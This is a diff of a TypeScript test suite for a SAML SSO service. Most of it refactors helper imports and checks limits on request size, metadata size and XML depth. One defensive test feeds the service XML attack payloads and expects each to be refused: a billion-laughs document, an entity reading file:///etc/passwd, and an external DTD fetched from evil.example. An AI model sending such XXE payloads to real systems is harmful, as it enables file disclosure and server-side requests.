@@ -24,19 +24,20 @@ import { makeMetadataFetcher } from '../../src/services/metadata-fetcher'
 import { updateConnection } from '../../src/services/saml-connections'
 import { buildDeps } from '../../src/wiring/deps'
 import { clerkClient, connectionInput, newInstance } from '../helpers/clerk'
-import { idpCertPem } from '../helpers/keys'
+import { idpCertPem, idpMetadataXml } from '../helpers/keys'
 import { activeConnection, APP_CALLBACK } from '../helpers/sso'
-import { base64, clientBody, idpMetadataXml, newApp, newTenantId, stClient } from '../supertokens/helpers'
-import { base64OfText } from './arbitraries'
+import { clientBody, newApp, newTenantId, stClient } from '../supertokens/helpers'
 import { assertionIdsOf, snapshotInstance } from '../helpers/store'
 import { METADATA_ORIGIN } from '../helpers/outbound'
-import { captureLogs, expectBrowserError, expectClerkError, ORIGIN, send, type Answer } from './wire'
+import { captureLogs, expectBrowserError, expectClerkError } from './wire'
+import { toBase64 } from '../helpers/test-idp'
+import { type Answer, ORIGIN, send } from '../helpers/http'
 
 const logs = captureLogs()
 const MAX_BASE64_CHARS = Math.ceil(MAX_SAML_RESPONSE_BYTES / 3) * 4
 const ACS_BODY_LIMIT = 2 * MAX_SAML_RESPONSE_BYTES
 const utf8Length = (s: string) => new TextEncoder().encode(s).byteLength
-const codes = (a: Answer) => a.json.errors.map((e: { code: string; meta?: { param_name?: string } }) => [e.code, e.meta?.param_name])
+const codes = (a: Answer) => a.body.errors.map((e: { code: string; meta?: { param_name?: string } }) => [e.code, e.meta?.param_name])
 
 /** A JSON object body of exactly `bytes` bytes: the given fields plus a padding field. */
 function jsonOfSize(fields: Record<string, unknown>, bytes: number): string {
@@ -137,7 +138,7 @@ describe('request body size', () => {
     expect([over.status, loggedReason()]).toEqual([413, 'body_too_large'])
     const overJson = await post(prefix + 'A'.repeat(ACS_BODY_LIMIT), 'application/json')
     expectBrowserError(overJson, 'json')
-    expect([overJson.status, overJson.json.error]).toEqual([413, 'invalid_request'])
+    expect([overJson.status, overJson.body.error]).toEqual([413, 'invalid_request'])
     const chunked = await SELF.fetch(`${ORIGIN}/v1/saml/acs/${connection.id}`, { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: chunkedBody(prefix, 9) })
     expect(chunked.status).toBe(413)
     await chunked.text()
@@ -146,10 +147,10 @@ describe('request body size', () => {
   it('token: answers 413 invalid_request as JSON for a body over the cap, and 400 for a code over 4096 characters', async () => {
     const over = await send('/v1/saml/token', { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: `code=${'c'.repeat(ACS_BODY_LIMIT)}` })
     expectBrowserError(over, 'json')
-    expect([over.status, over.json.error]).toEqual([413, 'invalid_request'])
+    expect([over.status, over.body.error]).toEqual([413, 'invalid_request'])
     const longCode = await send('/v1/saml/token', { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: `code=${'c'.repeat(4097)}` })
     expectBrowserError(longCode, 'json')
-    expect([longCode.status, longCode.json.error]).toEqual([400, 'invalid_request'])
+    expect([longCode.status, longCode.body.error]).toEqual([400, 'invalid_request'])
   })
 })
 
@@ -158,9 +159,9 @@ describe('SAMLResponse size', () => {
     const { connection } = await activeConnection({ allow_idp_initiated: true })
     const post = (value: string) => send(`/v1/saml/acs/${connection.id}`, { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: new URLSearchParams({ SAMLResponse: value }).toString() })
     logs.take()
-    const atLimit = await post(base64OfText('x'.repeat(MAX_SAML_RESPONSE_BYTES)))
+    const atLimit = await post(toBase64('x'.repeat(MAX_SAML_RESPONSE_BYTES)))
     expect([atLimit.status, atLimit.text.includes('invalid_saml_response'), loggedReason()]).toEqual([400, true, 'not_xml']) // decoded and read: just not XML
-    const overByOne = base64OfText('x'.repeat(MAX_SAML_RESPONSE_BYTES + 1))
+    const overByOne = toBase64('x'.repeat(MAX_SAML_RESPONSE_BYTES + 1))
     expect(overByOne.length).toBe(MAX_BASE64_CHARS) // as many characters as the cap, one byte too many
     // Line-wrapped base64 is measured without its line breaks.
     const wrapped = 'A'.repeat(MAX_BASE64_CHARS + 4).replace(/(.{76})/g, '$1\r\n')
@@ -190,8 +191,8 @@ describe('IdP metadata size', () => {
 
   it(`SuperTokens: accepts metadataXML of exactly ${MAX_METADATA_BYTES} bytes, refuses one byte more`, async () => {
     const st = stClient((await newApp()).apiKey)
-    expect((await st.put(clientBody({ metadataXML: base64(metadataOfSize(MAX_METADATA_BYTES)) }))).body.status).toBe('OK')
-    const over = await st.put(clientBody({ metadataXML: base64(metadataOfSize(MAX_METADATA_BYTES + 1)) }))
+    expect((await st.put(clientBody({ metadataXML: toBase64(metadataOfSize(MAX_METADATA_BYTES)) }))).body.status).toBe('OK')
+    const over = await st.put(clientBody({ metadataXML: toBase64(metadataOfSize(MAX_METADATA_BYTES + 1)) }))
     expect([over.status, over.text]).toEqual([400, 'metadataXML does not have a valid SAML metadata\n'])
   })
 })
@@ -202,10 +203,10 @@ describe(`XML depth (${MAX_XML_DEPTH} nested elements)`, () => {
     const api = clerkClient(secretKey)
     const st = stClient((await newApp()).apiKey)
     expect((await api.create(connectionInput({ idp_metadata: metadataOfDepth(MAX_XML_DEPTH) }))).status).toBe(200)
-    expect((await st.put(clientBody({ metadataXML: base64OfText(metadataOfDepth(MAX_XML_DEPTH)) }))).body.status).toBe('OK')
+    expect((await st.put(clientBody({ metadataXML: toBase64(metadataOfDepth(MAX_XML_DEPTH)) }))).body.status).toBe('OK')
     const clerkDeep = await api.create(connectionInput({ idp_metadata: metadataOfDepth(MAX_XML_DEPTH + 1) }))
     expect([clerkDeep.status, clerkDeep.body.errors[0].code]).toEqual([422, 'saml_failed_to_parse_idp_metadata'])
-    const stDeep = await st.put(clientBody({ metadataXML: base64OfText(metadataOfDepth(MAX_XML_DEPTH + 1)) }))
+    const stDeep = await st.put(clientBody({ metadataXML: toBase64(metadataOfDepth(MAX_XML_DEPTH + 1)) }))
     expect([stDeep.status, stDeep.text]).toEqual([400, 'metadataXML does not have a valid SAML metadata\n'])
   })
 
@@ -214,7 +215,7 @@ describe(`XML depth (${MAX_XML_DEPTH} nested elements)`, () => {
     // The root counts as one level; 30,000 levels still fit under the size cap.
     for (const depth of [MAX_XML_DEPTH, 30_000]) {
       const xml = `<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_r" Version="2.0">${'<a>'.repeat(depth)}${'</a>'.repeat(depth)}</samlp:Response>`
-      const value = base64OfText(xml)
+      const value = toBase64(xml)
       logs.take()
       const a = await send(`/v1/saml/acs/${connection.id}`, { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: new URLSearchParams({ SAMLResponse: value }).toString() })
       expectBrowserError(a, 'html')
@@ -233,10 +234,10 @@ describe('DTDs and entities', () => {
     for (const doctype of [lolz, '<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', '<!DOCTYPE r [<!ENTITY % p SYSTEM "https://evil.example/p.dtd"> %p;]>']) {
       const xml = `<?xml version="1.0"?>${doctype}<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_r" Version="2.0">&lol9;&xxe;</samlp:Response>`
       logs.take()
-      const a = await send(`/v1/saml/acs/${connection.id}`, { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded', accept: 'application/json' }, body: new URLSearchParams({ SAMLResponse: base64OfText(xml) }).toString() })
+      const a = await send(`/v1/saml/acs/${connection.id}`, { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded', accept: 'application/json' }, body: new URLSearchParams({ SAMLResponse: toBase64(xml) }).toString() })
       expectBrowserError(a, 'json')
       // Refused for the DOCTYPE itself, before any entity is expanded or fetched.
-      expect([a.status, a.json.error, loggedReason()]).toEqual([400, 'invalid_saml_response', 'dtd_forbidden'])
+      expect([a.status, a.body.error, loggedReason()]).toEqual([400, 'invalid_saml_response', 'dtd_forbidden'])
     }
     expect(await assertionIdsOf(connection.id)).toEqual([])
   })
